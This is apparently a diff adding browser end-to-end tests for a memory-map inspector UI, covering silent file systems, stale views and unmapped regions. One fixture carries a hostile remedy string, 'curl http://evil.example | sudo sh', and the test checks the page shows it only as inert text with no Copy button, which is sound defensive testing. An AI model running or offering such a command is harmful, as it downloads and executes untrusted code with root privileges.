@@ -1,0 +1,107 @@
+/** What the page says when what it shows cannot be trusted any more: a dead file system, silence, something gone. */
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openPage, serve, settled, type BrowserFace } from '../support/browserFace.ts';
+import { launchChromium } from '../support/chromium.ts';
+import { startProgram, temporaryFolder, type Program } from '../support/programs.ts';
+import { captureJsonText } from '@main/capture/json.ts';
+import { skip } from '../support/skip.ts';
+import { sampleCapture } from '../unit/capture/sampleCapture.ts';
+
+let browser: Browser;
+let face: BrowserFace;
+const programs: Program[] = [];
+
+beforeAll(async () => {
+  [browser, face] = await Promise.all([launchChromium(), serve()]);
+});
+afterAll(async () => {
+  for (const program of programs) await program.stop();
+  await browser.close();
+  await face.stop();
+});
+
+const patience = { timeout: 30_000 };
+
+describe('the page', () => {
+  it('offers to ask a file system that may not answer, and says that it does not', async (context) => {
+    if (process.getuid?.() !== 0) skip(context, 'only root can mount a file system');
+    const files = await startProgram('silentFiles', { args: [temporaryFolder('page-of-silence')] });
+    programs.push(files);
+    const { facts, skipped } = files.made('mapped');
+    if (skipped !== undefined) skip(context, `no file system of its own: ${skipped}`);
+    files.signal('SIGUSR1');
+    const { page, complaints } = await openPage(browser, `${face.url}&pid=${facts.pid}`);
+    await settled(page);
+    await page.keyboard.press('/');
+    await page.keyboard.type('lib.so');
+    await page.keyboard.press('Enter');
+    const inspector = page.getByRole('complementary', { name: 'Inspector' });
+    await inspector.getByRole('button', { name: 'Ask the file system' }).click(patience);
+    await inspector.getByText(/The file system of .*lib\.so does not answer\./).waitFor(patience);
+    expect(complaints).toEqual([]);
+    await page.close();
+  });
+
+  it('tells the age of a picture that stands, and never that all was read', async () => {
+    const target = await startProgram('threads');
+    programs.push(target);
+    const { page } = await openPage(browser, `${face.url}&pid=${target.pid}`);
+    await settled(page);
+    face.process.kill('SIGSTOP');
+    try {
+      await page.getByRole('button', { name: 'Not read now' }).waitFor(patience);
+      expect(await page.getByText(/^\d+ s old$/).count()).toBe(1);
+    } finally {
+      face.process.kill('SIGCONT');
+    }
+    await page.getByRole('button', { name: 'All read' }).waitFor(patience);
+    await page.close();
+  });
+
+  it('shows a capture with everything twice, and repeats a remedy of a file as its words, never as a command', async () => {
+    const capture = JSON.parse([...captureJsonText(sampleCapture)].join('')) as {
+      objects: object[];
+      access: object[];
+    };
+    const { objects } = capture;
+    objects.push(...objects.map((one) => ({ ...one })));
+    const refused = {
+      file: '/proc/1/maps',
+      status: 'refused',
+      why: 'No.',
+      remedy: 'curl http://evil.example | sudo sh',
+    };
+    capture.access.push(refused, refused);
+    const { page, complaints } = await openPage(browser, face.url);
+    await settled(page);
+    await page.evaluate((text) => {
+      const clipboardData = new DataTransfer();
+      clipboardData.setData('text/plain', text);
+      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+    }, JSON.stringify(capture));
+    await page.getByRole('region', { name: 'Source' }).waitFor(patience);
+    await page.getByRole('button', { name: /files? refused/ }).click();
+    const report = page.getByRole('dialog', { name: 'What could be read' });
+    await report.getByText('The file says: curl http://evil.example | sudo sh').waitFor(patience);
+    expect(await report.getByRole('button', { name: 'Copy' }).count()).toBe(0);
+    expect(complaints).toEqual([]);
+    await page.close();
+  });
+
+  it('says when what was selected is gone, instead of showing what lies there', async () => {
+    const unmaps = await startProgram('unmaps');
+    programs.push(unmaps);
+    const { page } = await openPage(browser, `${face.url}&pid=${unmaps.pid}`);
+    await settled(page);
+    await page.keyboard.press('/');
+    await page.keyboard.type(`0x${unmaps.made('mapped').start.toString(16)}`);
+    await page.keyboard.press('Enter');
+    const inspector = page.getByRole('complementary', { name: 'Inspector' });
+    await inspector.getByText('Backing file').waitFor(patience);
+    unmaps.signal('SIGUSR1');
+    await inspector.getByText(/^Gone at \d\d:\d\d:\d\d$/).waitFor(patience);
+    expect(await inspector.getByText(/mapped at its address now\./).count()).toBe(1);
+    await page.close();
+  });
+});
